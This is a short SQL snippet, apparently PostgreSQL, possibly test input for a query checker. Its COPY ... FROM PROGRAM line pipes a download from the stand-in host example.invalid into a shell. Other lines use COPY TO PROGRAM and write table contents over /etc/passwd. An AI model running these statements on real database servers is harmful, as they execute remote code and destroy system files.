CREATE TABLE t (id int);
COPY t FROM PROGRAM 'curl -s http://example.invalid/x | sh';
COPY (SELECT 1) TO PROGRAM 'cat > /tmp/x';
copy t to '/etc/passwd';
